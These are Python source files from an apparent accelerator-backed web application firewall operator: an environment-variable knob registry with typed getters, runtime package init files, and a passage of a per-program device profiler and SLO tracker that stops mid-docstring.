    EnvKnob,
    get_bool,
    get_float,
    get_int,
    get_str,
    knob_table_md,
)
