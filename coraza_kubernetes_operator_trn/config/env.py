"""Typed environment-knob registry: the ONLY place the package reads env.

Every operator-facing ``WAF_*`` knob is declared here once with its type,
default and doc string. Call sites go through the typed getters instead of
``os.environ`` so that:

- the knob inventory is a single table (DEVELOPMENT.md embeds the output
  of :func:`knob_table_md`, regenerable via
  ``python -m coraza_kubernetes_operator_trn.config.env``);
- malformed values degrade to the documented default instead of crashing
  a data-plane thread mid-request;
- ``tools/lint_invariants.py`` (rule ENV001, tier-1) can mechanically
  reject any new direct ``os.environ`` / ``os.getenv`` read elsewhere in
  the package.

Reading an UNREGISTERED name through the getters is a programming error
(KeyError) — register the knob first, that is the point of the registry.
"""

from __future__ import annotations

import os
from dataclasses import dataclass


@dataclass(frozen=True)
class EnvKnob:
    """One registered environment knob."""

    name: str
    type: str  # "str" | "int" | "float" | "bool"
    default: object
    doc: str


REGISTRY: dict[str, EnvKnob] = {}


def _register(name: str, type_: str, default, doc: str) -> EnvKnob:
    knob = EnvKnob(name=name, type=type_, default=default, doc=doc)
    REGISTRY[name] = knob
    return knob


# --- knob declarations (alphabetical) --------------------------------------

_register(
    "WAF_AUDIT_COMPOSE_BUDGET", "int", 0,
    "waf-audit per-scan-step matmul-op budget for compose-mode traced "
    "kernels (associative-scan combine matmuls + the state-apply einsum). "
    "0 = the per-chunk formula 2*chunk+4.")
_register(
    "WAF_AUDIT_GATHER_BUDGET", "int", 0,
    "waf-audit per-scan-step gather-op budget for traced kernels. "
    "0 = the per-stride formula 2*stride+2 (k class gathers + k-1 "
    "pair-index folds + 1 state-table gather + headroom).")
_register(
    "WAF_AUDIT_MAX_CACHE_KEYS", "int", 0,
    "waf-audit bound on distinct trace-cache keys across the kernel "
    "variant matrix; more distinct traces than this is flagged as a "
    "recompile-storm risk. 0 = exactly the enumerated variant count.")
_register(
    "WAF_AUTOTUNE", "bool", False,
    "Master switch for the closed-loop kernel autotuner "
    "(autotune/controller.py): a background controller folds profiler/"
    "EngineStats telemetry into a traffic model, scores candidate "
    "per-group stride/mode/chunk/bucket plans, and swaps a verified "
    "winner through the epoch-pinned hot-reload path. Off = no "
    "controller thread, no plan overrides, env knobs alone decide.")
_register(
    "WAF_AUTOTUNE_DRY_RUN", "bool", False,
    "Autotuner dry-run: the controller observes and plans (status/"
    "metrics report the winning candidate and its predicted win) but "
    "never pre-traces, verifies or swaps — the live plan is untouched.")
_register(
    "WAF_AUTOTUNE_INTERVAL_S", "float", 30.0,
    "Seconds between autotuner control rounds (observe -> plan -> "
    "maybe swap). Clamped to >= 1s.")
_register(
    "WAF_AUTOTUNE_MIN_DWELL_S", "float", 120.0,
    "Hysteresis: minimum seconds a live plan must dwell before the "
    "autotuner may replace it (rollbacks are exempt — a regressing "
    "swap reverts immediately). Prevents plan flapping.")
_register(
    "WAF_AUTOTUNE_MIN_WIN", "float", 0.1,
    "Hysteresis: minimum predicted fractional win (candidate cost vs "
    "live plan cost, e.g. 0.1 = 10% cheaper) before the autotuner "
    "considers a candidate worth pre-tracing and swapping.")
_register(
    "WAF_BASS_BANK_BUDGET", "int", 1 << 26,
    "Byte budget for a group's HBM-resident one-hot transition-map bank "
    "([M*C*S, S] bf16) gathered per step by the hand-scheduled BASS "
    "compose kernel; a group whose bank would exceed it falls back to "
    "the XLA compose formulation. 0 disables bass_compose everywhere "
    "(no bank fits).")
_register(
    "WAF_BASS_ENABLE", "bool", True,
    "Master switch for the hand-scheduled BASS compose kernel "
    "(ops/bass_compose.py): with the concourse toolchain importable and "
    "a Neuron backend live, groups may resolve scan mode "
    "'bass_compose'. Off — or on CPU/GPU hosts — every bass_compose "
    "request falls back per group to the XLA compose formulation "
    "(bit-identical verdicts).")
_register(
    "WAF_BASS_SCREEN_ENABLE", "bool", True,
    "Switch for the hand-scheduled BASS union-screen kernel "
    "(ops/bass_screen.py): with WAF_BASS_ENABLE on, the toolchain "
    "importable and a Neuron backend live, group screens may resolve "
    "screen mode 'bass_screen'. Off — or on CPU/GPU hosts — every "
    "screen runs the JAX gather loop (bit-identical hit masks).")
_register(
    "WAF_BATCH_ADAPTIVE", "bool", True,
    "Set to 0 to disable adaptive wave sizing: the micro-batcher then "
    "always drains up to max_batch_size instead of targeting the EWMA "
    "of observed batch fill / queue depth (extproc/batcher.py).")
_register(
    "WAF_BATCH_DEADLINE_MS", "float", 0.0,
    "Per-batch device budget in ms: an inspect_batch slower than this "
    "counts as a circuit-breaker failure (hung/stalled device). 0 = off.")
_register(
    "WAF_BATCH_EWMA_ALPHA", "float", 0.2,
    "EWMA smoothing factor (0..1] for the micro-batcher's observed "
    "batch-fill-ratio and queue-depth-at-dequeue signals that drive "
    "adaptive wave sizing; higher = reacts faster to load swings.")
_register(
    "WAF_BATCH_INTERACTIVE_SLACK_MS", "float", 250.0,
    "Latency-class boundary in ms: pending requests whose remaining "
    "deadline slack at dequeue is at or below this are classed "
    "'interactive' and dequeue ahead of 'bulk' work (stream "
    "finalizations, no-deadline requests), FIFO within each class.")
_register(
    "WAF_BATCH_SLACK_DEFAULT_MS", "float", 25.0,
    "Predicted dispatch+device time in ms for a batch whose shape "
    "bucket the per-program profiler has not observed yet; the "
    "deadline-or-fill close-out uses it to compute remaining slack "
    "until real measurements arrive.")
_register(
    "WAF_BATCH_SLACK_MARGIN_MS", "float", 5.0,
    "Safety margin in ms subtracted from every pending request's "
    "remaining slack (deadline - now - predicted batch time) before "
    "the deadline-or-fill close-out decides whether holding the batch "
    "open would blow the tightest deadline.")
_register(
    "WAF_BREAKER_BACKOFF_MS", "float", 500.0,
    "Circuit-breaker base backoff in ms before a half-open probe; "
    "doubles per consecutive re-trip.")
_register(
    "WAF_BREAKER_THRESHOLD", "int", 5,
    "Consecutive device failures/overruns that trip the circuit breaker "
    "onto the host fallback path.")
_register(
    "WAF_COMPILE_CACHE_DIR", "str", "",
    "Directory of the persistent compile cache "
    "(runtime/compile_cache.py): AOT-compiled XLA executables keyed by "
    "waf-audit trace digest + jax version/backend are written here at "
    "trace time and loaded instead of tracing on warm starts "
    "(pre-populate with tools/waf_warm.py). Empty = cache off.")
_register(
    "WAF_COMPILE_CACHE_MAX_BYTES", "int", 0,
    "Size cap in bytes for WAF_COMPILE_CACHE_DIR payloads; past it the "
    "oldest-mtime executables are evicted after each store. "
    "0 = unbounded.")
_register(
    "WAF_COMPOSE_CHUNK", "int", 32,
    "Compose-mode chunk length K: transition maps are composed in "
    "log2(K) associative-scan rounds within each chunk and the per-chunk "
    "maps are folded sequentially, bounding map memory at lanes*K*S^2 "
    "per step. Clamped to >= 1.")
_register(
    "WAF_COMPOSE_STATE_BUDGET", "int", 128,
    "Compose-mode per-group state-count budget: groups whose padded "
    "state count S exceeds this fall back to gather (S^2 transition "
    "maps grow quadratically while gather stays O(S*C)).")
_register(
    "WAF_DEADLINE_MS", "float", 0.0,
    "Per-request end-to-end inspection deadline in ms; requests queued "
    "past it are shed with the failure-policy verdict. 0 = off.")
_register(
    "WAF_DRAIN_TIMEOUT_S", "float", 30.0,
    "Graceful-drain deadline in seconds (MicroBatcher.drain / SIGTERM on "
    "extproc): readiness flips immediately, then in-flight waves and open "
    "inspection streams get up to this long to complete before still-open "
    "stream state is exported for a successor and the remainder resolves "
    "with the failure-policy verdict. 0 = export/resolve immediately.")
_register(
    "WAF_EVENT_LOG", "str", "",
    "Rotating JSONL file sink for the security audit-event pipeline "
    "(runtime/audit_events.py): one redacted AuditEvent per line. "
    "Empty = no file sink.")
_register(
    "WAF_EVENT_LOG_BACKUPS", "int", 3,
    "Rotated audit-event log generations kept (WAF_EVENT_LOG -> .1 -> "
    "... -> .N); the oldest is dropped beyond it.")
_register(
    "WAF_EVENT_LOG_MAX_BYTES", "int", 1 << 22,
    "Size threshold in bytes at which the audit-event JSONL file "
    "rotates. 0 = never rotate.")
_register(
    "WAF_EVENT_PIPELINE", "bool", True,
    "Master switch for the security audit-event pipeline. Off = the "
    "hot path does a single attribute check and emits nothing (no "
    "queue, no writer thread, waf-audit digests unchanged).")
_register(
    "WAF_EVENT_QUEUE", "int", 1024,
    "Bound on the audit-event queue between the lock-free emit at "
    "_finalize and the writer thread; events past it are DROPPED "
    "(counted per sink='queue') — overload never backpressures the "
    "dispatch path.")
_register(
    "WAF_EVENT_RING", "int", 256,
    "Capacity of the in-memory audit-event ring behind GET "
    "/debug/events; the oldest event is evicted beyond it.")
_register(
    "WAF_EVENT_SAMPLE", "float", 1.0,
    "Head-sampling rate (0..1) for PASS audit events; blocked/degraded/"
    "shed/expired/error events are always kept. 1 = keep every pass, "
    "0 = keep none.")
_register(
    "WAF_EVENT_STDOUT", "bool", True,
    "Coraza-style stdout sink: RELEVANT audit events (SecAuditEngine "
    "On, or RelevantOnly + interrupted/degraded) are logged as one "
    "JSON line each through the 'waf-audit' logger.")
_register(
    "WAF_FAULT_INJECT", "str", "",
    "Deterministic chaos spec 'kind=rate[,kind=rate...][,seed=N]"
    "[,stall_ms=N][,slow_ms=N]' over runtime/resilience.FAULT_KINDS. "
    "Malformed items degrade (rates to 0.0, seed/stall_ms/slow_ms to "
    "defaults, unknown kinds dropped) with one warning. Empty = no "
    "injection.")
_register(
    "WAF_FAST_ACCEPT", "bool", False,
    "Screen-first wave dispatch (runtime/multitenant.inspect_batch): "
    "issue every group's union screen as wave 0, collect it first and "
    "resolve screen-clean request-only transactions with their pass "
    "verdict before the full scan wave issues. Sound by the screen's "
    "no-false-negative contract — verdicts stay bit-identical to "
    "always-full-scan; an autotune plan's fast_accept field overrides "
    "this knob. Off by default until proven on silicon (BENCH r06).")
_register(
    "WAF_FLEET_HEDGE_MS", "float", 0.0,
    "Tail-latency hedge delay of the fleet router in ms: a buffered "
    "inspect still unresolved after this long gets a second, concurrent "
    "request on the tenant's backup pod — first verdict wins, the loser "
    "is abandoned and counted (waf_fleet_hedges_*). 0 = hedging off.")
_register(
    "WAF_FLEET_PODS", "int", 2,
    "Pod count of the in-process fleet front-end (fleet/__main__.py and "
    "bench.py --fleet): how many engine+batcher+server stacks the "
    "router places tenants across. Clamped to >= 1.")
_register(
    "WAF_FLEET_PROBE_INTERVAL_S", "float", 2.0,
    "Period of the fleet health prober's /readyz + /healthz sweep over "
    "every pod (fleet/health.py). Probe outcomes and in-band response "
    "outcomes feed the same per-pod circuit breakers. 0 = probe loop "
    "off (in-band outcomes only).")
_register(
    "WAF_FLEET_PROBE_TIMEOUT_S", "float", 0.5,
    "Per-probe timeout in seconds; a probe slower than this counts as a "
    "probe failure against the pod's breaker (the probe-timeout fault "
    "kind fires here under injection).")
_register(
    "WAF_FLEET_RETRIES", "int", 2,
    "Bounded retry budget of the fleet router per buffered request: "
    "retries go to the tenant's NEXT rendezvous candidate on connect "
    "failure / policy 503 / timeout, with exponential backoff + jitter. "
    "Stream chunks are never retried (affinity pins them). 0 = no "
    "retries.")
_register(
    "WAF_FLEET_RETRY_BACKOFF_MS", "float", 5.0,
    "Base backoff in ms between fleet router retries; doubles per "
    "attempt with seeded full jitter (0..backoff). Bounds the added "
    "tail a failing-over request pays.")
_register(
    "WAF_MAX_BODY_BYTES", "int", 1 << 20,
    "Largest request/response body accepted by the inspection surface, "
    "in bytes: oversized base64 payloads are rejected with 413 before "
    "decoding, and an open inspection stream that accumulates past it "
    "resolves with a 413 deny. 0 = unbounded.")
_register(
    "WAF_MESH_DEVICES", "int", 0,
    "Total devices of the dp×rp serving mesh; > 1 selects the sharded "
    "multichip engine (parallel/sharded_engine.ShardedEngine) behind the "
    "same inspect contract. 0 or 1 = single-chip MultiTenantEngine.")
_register(
    "WAF_MESH_PLACEMENT", "str", "hash",
    "Tenant→dp-shard placement policy: 'hash' (rendezvous, minimal "
    "movement on shard loss) or 'load' (greedy least-loaded by observed "
    "per-tenant request counts). Rebalances only at epoch boundaries.")
_register(
    "WAF_MESH_RP", "int", 1,
    "Rule-parallel axis size of the serving mesh: each dp shard spans rp "
    "devices and rule groups whose stride tables blow the SBUF budget "
    "are sliced 1/rp per device. Must divide WAF_MESH_DEVICES.")
_register(
    "WAF_MESH_RP_BUDGET", "int", 0,
    "Per-group table budget in int32 entries above which rule groups are "
    "rp-sharded across the mesh instead of stride-composed. "
    "0 = inherit WAF_STRIDE_TABLE_BUDGET.")
_register(
    "WAF_PROFILE_RING", "int", 512,
    "Capacity of the per-program profiler's raw-observation ring buffer "
    "(runtime/profiler.py); aggregates are unbounded by key, the ring "
    "holds the most recent individual timings. Clamped to >= 1.")
_register(
    "WAF_PROFILE_SAMPLE", "float", 0.0,
    "Head-sampling rate (0..1) of the per-program device profiler: every "
    "1/rate-th inspected batch times each issued program individually at "
    "its collect sync point. 0 = off (the batched single-sync fetch path "
    "is unchanged and no extra device syncs happen).")
_register(
    "WAF_QUEUE_CAP", "int", 8192,
    "Bounded-admission queue capacity of the micro-batcher; submits "
    "beyond it are shed immediately. 0 = unbounded.")
_register(
    "WAF_RULE_HITS_TOPK", "int", 10,
    "Bound K of the per-tenant top-K matched-rule counters "
    "(waf_rule_hits_total{tenant,rule_id}), tracked with a space-saving "
    "sketch so cardinality stays fixed under adversarial rule churn. "
    "0 = rule-hit telemetry off.")
_register(
    "WAF_SCAN_MODE", "str", "auto",
    "Device scan mode: 'gather' (state-dependent gather per step), "
    "'matmul' (one-hot state x transition matmul per step), 'compose' "
    "(log-depth associative composition of per-symbol transition maps; "
    "falls back to gather per group over WAF_COMPOSE_STATE_BUDGET), "
    "'bass_compose' (hand-scheduled BASS TensorE kernel of the compose "
    "formulation; falls back to compose per group off-device or over "
    "budget — see WAF_BASS_ENABLE). 'auto' = gather.")
_register(
    "WAF_SCAN_STRIDE", "str", "auto",
    "Device scan stride: 'auto' picks stride 2 when the composed tables "
    "fit WAF_STRIDE_TABLE_BUDGET (per group), else 1; explicit 1/2/4 "
    "forces a stride (1 on hard-cap overflow).")
_register(
    "WAF_SCHED_BLOCKS", "int", 2,
    "waf-sched envelope: lane blocks (B) each recorded kernel schedule "
    "iterates — >= 2 exercises the cross-block idx-buffer and map-tile "
    "recycling fences (analysis/audit/sched.py).")
_register(
    "WAF_SCHED_CHUNKS", "str", "2,16,32",
    "waf-sched envelope: comma-separated chunk sizes (K) the full "
    "schedule audit records per kernel; quick mode pins the production "
    "default (WAF_COMPOSE_CHUNK, strided screen clamped to 4).")
_register(
    "WAF_SCHED_SLOTS", "int", 8,
    "waf-sched envelope: screen mask slot count (n_slots) the recorded "
    "screen schedules carry; sized well inside one PSUM bank.")
_register(
    "WAF_SCHED_STATES", "str", "8,64",
    "waf-sched envelope: comma-separated automaton state counts (S) the "
    "full schedule audit records per kernel; quick mode pins S=64 "
    "(G = 128/S = 2 lanes per partition block).")
_register(
    "WAF_SCHED_STEPS", "int", 3,
    "waf-sched envelope: chunks per lane block (n_chunks) each recorded "
    "schedule scans — >= 2 exercises the double-buffered index DMA "
    "overlap the hazard checker proves safe.")
_register(
    "WAF_SLO_AVAILABILITY", "float", 0.0,
    "Per-tenant availability objective (0..1, e.g. 0.999): a request "
    "counts against the availability error budget when it is shed or "
    "served by a degraded path (host fallback / failure-policy verdict). "
    "0 = availability SLO tracking off.")
_register(
    "WAF_SLO_P99_MS", "float", 0.0,
    "Per-tenant added-latency objective in ms: a request slower than "
    "this (queue wait + inspection) burns the latency error budget. "
    "0 = latency SLO tracking off.")
_register(
    "WAF_SLO_WINDOW_S", "float", 60.0,
    "Rolling window in seconds over which SLO error budgets are "
    "computed (runtime/profiler.SloTracker); budget_remaining is "
    "1 - bad/(allowed_fraction * total) over the window, clamped to "
    "[0, 1]. Clamped to >= 1s.")
_register(
    "WAF_SOAK_DURATION_S", "float", 12.0,
    "Default wall-time budget in seconds for one chaos-soak run "
    "(testing/soak.py): phase durations from the ChaosSchedule are "
    "scaled to fit it. The tools/waf_soak.py --duration flag overrides.")
_register(
    "WAF_SOAK_REQUESTS", "int", 400,
    "Default per-phase request budget of the chaos-soak driver; each "
    "phase stops submitting at whichever of the wall-time or request "
    "budget it hits first. 0 = wall-time only.")
_register(
    "WAF_SOAK_RESERVOIR", "int", 64,
    "Capacity of the soak harness's differential reservoir: a seeded "
    "sample of admitted (request, verdict) pairs replayed through the "
    "host ReferenceWaf after each phase for bit-exact parity. 0 = off.")
_register(
    "WAF_SOAK_SEED", "int", 7,
    "Base RNG seed of the chaos-soak harness; traffic synthesis, chunk "
    "splitting, fault schedules and reservoir sampling all derive "
    "per-purpose streams from it, so a soak run is replayable.")
_register(
    "WAF_STREAM_EARLY_BLOCK", "bool", True,
    "Set to 0 to disable mid-stream early blocking: chunks still carry "
    "DFA state on device but a verdict is only produced at stream end, "
    "making chunked inspection unconditionally bit-identical to the "
    "buffered path (see DEVELOPMENT.md 'Streaming inspection').")
_register(
    "WAF_STREAM_MAX_STATE_BYTES", "int", 1 << 20,
    "Budget in bytes for carried per-stream DFA state vectors across ALL "
    "open inspection streams; past it new streams open without a device "
    "state carry (buffer-only, verdict at end — still exact). "
    "0 = unbounded.")
_register(
    "WAF_STREAM_MAX_STREAMS", "int", 1024,
    "Most inspection streams open at once; begins beyond it resolve "
    "immediately with the tenant's failure-policy verdict "
    "(bounded-memory backpressure). 0 = unbounded.")
_register(
    "WAF_STREAM_TTL_S", "float", 60.0,
    "Idle TTL in seconds for open inspection streams (monotonic clock): "
    "streams with no chunk activity past it are garbage-collected and "
    "resolved with the tenant's failure-policy verdict. 0 = no GC.")
_register(
    "WAF_STRIDE_TABLE_BUDGET", "int", 1 << 22,
    "Auto-stride size budget in int32 entries per transform-chain group "
    "(composed tables + pair-index levels). 2^22 entries = 16 MiB.")
_register(
    "WAF_SYNC_DISPATCH", "bool", False,
    "Set to 1 to force fully serialized issue-collect-walk device "
    "dispatch (differential testing); default is wave-pipelined.")
_register(
    "WAF_TRACE_RING", "int", 256,
    "Capacity of the flight recorder's completed-trace ring buffer "
    "(runtime/tracing.py); the oldest kept trace is evicted beyond it. "
    "Clamped to >= 1.")
_register(
    "WAF_TRACE_SAMPLE", "float", 0.0,
    "Head-sampling rate (0..1) of the request flight recorder: every "
    "1/rate-th inspection records per-phase spans and lands in the "
    "/debug/traces ring. 0 = off (no per-request trace contexts).")
_register(
    "WAF_TRACE_SLOW_MS", "float", 0.0,
    "Tail-capture threshold in ms: when > 0 every request records spans "
    "and the recorder keeps slow (>= threshold), blocked, shed and "
    "host-fallback completions even when not head-sampled. 0 = off.")


# --- typed getters ----------------------------------------------------------


def _raw(name: str) -> str | None:
    knob = REGISTRY[name]  # KeyError = unregistered knob, fix the caller
    return os.environ.get(knob.name)


def get_str(name: str) -> str:
    v = _raw(name)
    return str(REGISTRY[name].default) if v is None else v


def get_int(name: str) -> int:
    v = _raw(name)
    if v is not None:
        try:
            return int(v)
        except ValueError:
            pass  # malformed: fall through to the documented default
    return int(REGISTRY[name].default)


def get_float(name: str) -> float:
    v = _raw(name)
    if v is not None:
        try:
            return float(v)
        except ValueError:
            pass
    return float(REGISTRY[name].default)


def get_bool(name: str) -> bool:
    """Knob convention: the string "1" means on, anything else off."""
    v = _raw(name)
    if v is None:
        return bool(REGISTRY[name].default)
    return v == "1"


# --- docs -------------------------------------------------------------------


def knob_table_md() -> str:
    """The env-knob table DEVELOPMENT.md embeds (markdown)."""
    lines = [
        "| knob | type | default | effect |",
        "|---|---|---|---|",
    ]
    for name in sorted(REGISTRY):
        k = REGISTRY[name]
        default = repr(k.default) if k.type == "str" else str(k.default)
        lines.append(f"| `{k.name}` | {k.type} | `{default}` | {k.doc} |")
    return "\n".join(lines)


if __name__ == "__main__":
    print(knob_table_md())
