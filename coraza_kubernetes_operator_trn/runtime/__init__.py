"""Runtime: the data-plane engines (single- and multi-tenant)."""

from .device_engine import DeviceWafEngine  # noqa: F401
from .multitenant import EngineStats, MultiTenantEngine  # noqa: F401
