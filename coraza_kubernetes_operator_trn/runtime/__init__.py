"""Runtime: the data-plane engines (single- and multi-tenant) and the
degradation-aware resilience layer (breaker, fault injection, health)."""

from .audit_events import (  # noqa: F401
    AuditEventPipeline,
    MemoryRingSink,
    RotatingJsonlSink,
    StdoutSink,
    build_event,
)
from .compile_cache import CachedJit, CompileCache, cached_jit  # noqa: F401
from .device_engine import DeviceWafEngine  # noqa: F401
from .multitenant import EngineStats, MultiTenantEngine  # noqa: F401
from .profiler import ProgramProfiler, SloTracker  # noqa: F401
from .resilience import (  # noqa: F401
    CircuitBreaker,
    FaultInjector,
    InjectedFault,
)
from .tracing import (  # noqa: F401
    TraceContext,
    TraceRecorder,
    phase_quantiles,
)
