"""Host runtime: hybrid device/host orchestration, batching, fallback."""

from .device_engine import DeviceWafEngine  # noqa: F401
