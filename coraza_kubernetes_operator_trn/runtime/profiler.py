"""Per-program device profiler + per-tenant SLO tracker.

The flight recorder (runtime/tracing.py) decomposes a request into
phases, but ``device_collect`` is still a black box: nothing attributes
wall-clock to the individual compiled program (rule group x length
bucket x scan mode x stride) that ran. This module closes that gap with
two cooperating pieces:

**ProgramProfiler** — on head-sampled batches (the same
``1/rate``-period discipline as ``WAF_TRACE_SAMPLE``, via
``WAF_PROFILE_SAMPLE``), the engine's collect step fetches each issued
program's result individually instead of through the batched
single-sync concat, timing each blocking fetch with
``time.monotonic()``. Because the device executes issued programs in
order on one stream, consecutive blocking fetches measure per-program
device residency. The unsampled hot path is byte-identical: no extra
device ops are staged (so waf-audit kernel trace digests cannot
change) and no extra syncs happen (the one batched fetch remains the
only sync point). Observations land in a lock-free ring plus per-key
aggregates keyed ``(group, bucket, mode, stride)`` with per-tenant
lane-weighted attribution, and ``snapshot()`` joins each key against
waf-audit's static cost model (:mod:`...analysis.audit.cost`) to
report measured-vs-predicted efficiency (seconds per analytic scan
step / per matmul).

**SloTracker** — rolling-window error budgets per tenant for two
objectives: added latency (``WAF_SLO_P99_MS``: at most 1% of requests
may exceed the threshold — a p99 objective) and availability
(``WAF_SLO_AVAILABILITY``: fraction of requests that must be served by
the exact device/host path, i.e. not shed and not degraded). Windows
are time-bucketed on the monotonic clock (``WAF_SLO_WINDOW_S`` split
into fixed sub-buckets, stale buckets lazily zeroed), so budget math
never touches the wall clock (TIME001).

Concurrency discipline (same as tracing.py, LOCK001-clean): the ring
index is an ``itertools.count`` (GIL-atomic ``__next__``), slot stores
are single bytecodes, and aggregate-dict updates happen on the collect
thread that owns the batch — a shared profiler merged across chips
tolerates best-effort counter races (exact once writers quiesce, which
is how every test reads them).
"""

from __future__ import annotations

import itertools
import math
import time

_DEFAULT_RING = 512

# Per-program device-seconds histogram bounds. Device programs span
# ~100us (tiny bucket, gather) to ~1s (cold compile hidden in the first
# fetch), log-spaced like extproc.metrics._BUCKETS but owned here so
# runtime does not import extproc.
PROGRAM_SECONDS_BUCKETS = (
    0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025,
    0.05, 0.1, 0.25, 0.5, 1.0,
)

# the pseudo-program key mode for batches served by the host fallback
# path (breaker open / device fault): attributed, never dropped
HOST_MODE = "host"

# Observed byte-length histogram bounds (bytes, inclusive upper edges;
# one overflow slot past the last). Finer than LENGTH_BUCKETS on purpose:
# the autotune planner re-derives bucket ladders from these counts, so
# they need sub-bucket resolution of where request bodies actually land.
BYTE_LEN_BOUNDS = (
    32, 64, 96, 128, 192, 256, 384, 512, 768, 1024,
    1536, 2048, 3072, 4096, 6144, 8192,
)


class _BucketFill:
    """Per-shape-bucket fill aggregate: how full the padded batch
    really was (lane occupancy) and where the raw byte lengths landed
    (histogram over BYTE_LEN_BOUNDS)."""

    __slots__ = ("batches", "lanes_total", "lanes_padded_total",
                 "bytes_total", "max_len", "hist")

    def __init__(self) -> None:
        self.batches = 0
        self.lanes_total = 0
        self.lanes_padded_total = 0
        self.bytes_total = 0
        self.max_len = 0
        self.hist = [0] * (len(BYTE_LEN_BOUNDS) + 1)

    def observe(self, byte_lengths, lanes: int, lanes_padded: int) -> None:
        self.batches += 1
        self.lanes_total += int(lanes)
        self.lanes_padded_total += int(lanes_padded)
        for n in byte_lengths:
            n = int(n)
            self.bytes_total += n
            if n > self.max_len:
                self.max_len = n
            i = 0
            for i, b in enumerate(BYTE_LEN_BOUNDS):
                if n <= b:
                    break
            else:
                i = len(BYTE_LEN_BOUNDS)
            self.hist[i] += 1

    def as_dict(self) -> dict:
        occ = (self.lanes_total / self.lanes_padded_total
               if self.lanes_padded_total else 0.0)
        n = sum(self.hist)
        mean_len = self.bytes_total / n if n else 0.0
        return {
            "batches": self.batches,
            "lanes_total": self.lanes_total,
            "lanes_padded_total": self.lanes_padded_total,
            "occupancy": round(occ, 4),
            "bytes_total": self.bytes_total,
            "mean_len": round(mean_len, 1),
            "max_len": self.max_len,
            "hist": list(self.hist),
        }


def _key(group: str, bucket: int, mode: str, stride: int) -> tuple:
    return (str(group), int(bucket), str(mode), int(stride))


class _Agg:
    """Per-key aggregate: count/sum/min/max + histogram + lane stats."""

    __slots__ = ("count", "seconds_total", "seconds_min", "seconds_max",
                 "hist", "lanes_total", "lanes_padded_total", "dims")

    def __init__(self) -> None:
        self.count = 0
        self.seconds_total = 0.0
        self.seconds_min = math.inf
        self.seconds_max = 0.0
        self.hist = [0] * (len(PROGRAM_SECONDS_BUCKETS) + 1)
        self.lanes_total = 0
        self.lanes_padded_total = 0
        self.dims = None  # (m, s, c) of the group's tables, last seen

    def observe(self, seconds: float, lanes: int, lanes_padded: int,
                dims) -> None:
        self.count += 1
        self.seconds_total += seconds
        if seconds < self.seconds_min:
            self.seconds_min = seconds
        if seconds > self.seconds_max:
            self.seconds_max = seconds
        i = 0
        for i, b in enumerate(PROGRAM_SECONDS_BUCKETS):
            if seconds <= b:
                break
        else:
            i = len(PROGRAM_SECONDS_BUCKETS)
        self.hist[i] += 1
        self.lanes_total += int(lanes)
        self.lanes_padded_total += int(lanes_padded)
        if dims is not None:
            self.dims = tuple(int(d) for d in dims)

    def as_dict(self) -> dict:
        mean = self.seconds_total / self.count if self.count else 0.0
        occ = (self.lanes_total / self.lanes_padded_total
               if self.lanes_padded_total else 0.0)
        return {
            "count": self.count,
            "seconds_total": round(self.seconds_total, 6),
            "seconds_mean": round(mean, 6),
            "seconds_min": (round(self.seconds_min, 6)
                            if self.count else 0.0),
            "seconds_max": round(self.seconds_max, 6),
            "lanes_total": self.lanes_total,
            "lanes_padded_total": self.lanes_padded_total,
            "occupancy": round(occ, 4),
            "dims": list(self.dims) if self.dims else None,
        }


class ProgramProfiler:
    """Sampling per-program device timer + lock-free aggregates.

    The engine calls :meth:`sample_batch` once per inspected batch; a
    True answer switches that batch's collect to per-program timed
    fetches, reported back through :meth:`record_program` /
    :meth:`record_host`. Everything else reads :meth:`snapshot`.
    """

    def __init__(self, sample: float | None = None,
                 ring: int | None = None) -> None:
        from ..config import env as envcfg

        if sample is None:
            sample = envcfg.get_float("WAF_PROFILE_SAMPLE")
        if ring is None:
            ring = envcfg.get_int("WAF_PROFILE_RING")
        self.sample = max(0.0, min(1.0, float(sample)))
        self.ring_size = max(1, int(ring) if ring else _DEFAULT_RING)
        # head sampling over BATCHES (not requests): deterministic
        # 1/period admission, same discipline as TraceRecorder
        self._period = (0 if self.sample <= 0.0
                        else max(1, round(1.0 / self.sample)))
        self._batches = itertools.count()
        self._ring: list = [None] * self.ring_size
        self._widx = itertools.count()
        # (group, bucket, mode, stride) -> _Agg
        self._aggs: dict[tuple, _Agg] = {}
        # (tenant, group, bucket, mode, stride) -> lane-weighted seconds
        self._tenant_seconds: dict[tuple, float] = {}
        # bucket -> _BucketFill (observed byte lengths + lane occupancy)
        self._bucket_fills: dict[int, _BucketFill] = {}
        # best-effort counters (exact once writers quiesce)
        self.sampled_batches = 0
        self.timed_collects = 0  # individual timed program fetches

    # -- policy ------------------------------------------------------------
    @property
    def enabled(self) -> bool:
        return self._period > 0

    @classmethod
    def from_env(cls) -> "ProgramProfiler":
        return cls()

    def sample_batch(self) -> bool:
        """Per-batch head-sampling decision; False when disabled."""
        if self._period == 0:
            return False
        n = next(self._batches)
        hit = (n % self._period) == 0
        if hit:
            self.sampled_batches += 1
        return hit

    # -- recording ---------------------------------------------------------
    def record_program(self, group: str, bucket: int, mode: str,
                       stride: int, seconds: float, *,
                       lanes: int = 0, lanes_padded: int = 0,
                       tenants: dict | None = None,
                       dims=None) -> None:
        """One timed program execution. ``tenants`` maps tenant ->
        lane count in this program; seconds are attributed to tenants
        lane-weighted (the full duration is observed once in the
        per-key histogram)."""
        key = _key(group, bucket, mode, stride)
        seconds = max(0.0, float(seconds))
        agg = self._aggs.get(key)
        if agg is None:
            agg = self._aggs.setdefault(key, _Agg())
        agg.observe(seconds, lanes, lanes_padded, dims)
        self.timed_collects += 1
        if tenants:
            total = sum(tenants.values()) or 1
            for tenant, n in tenants.items():
                tkey = (str(tenant),) + key
                share = seconds * (n / total)
                self._tenant_seconds[tkey] = (
                    self._tenant_seconds.get(tkey, 0.0) + share)
        i = next(self._widx)
        self._ring[i % self.ring_size] = {
            "seq": i,
            "group": key[0], "bucket": key[1],
            "mode": key[2], "stride": key[3],
            "seconds": round(seconds, 6),
            "lanes": int(lanes), "lanes_padded": int(lanes_padded),
        }

    def record_bucket_fill(self, bucket: int, byte_lengths,
                           lanes: int, lanes_padded: int) -> None:
        """One profiled batch's fill at a shape bucket: the raw byte
        length of every packed value plus the real vs padded lane
        counts. Called on the collect thread for sampled batches only
        (the unsampled hot path never materializes the length list)."""
        bucket = int(bucket)
        fill = self._bucket_fills.get(bucket)
        if fill is None:
            fill = self._bucket_fills.setdefault(bucket, _BucketFill())
        fill.observe(byte_lengths, lanes, lanes_padded)

    def record_host(self, tenant: str, seconds: float,
                    lanes: int = 1) -> None:
        """A batch (or slice) served by the host fallback path:
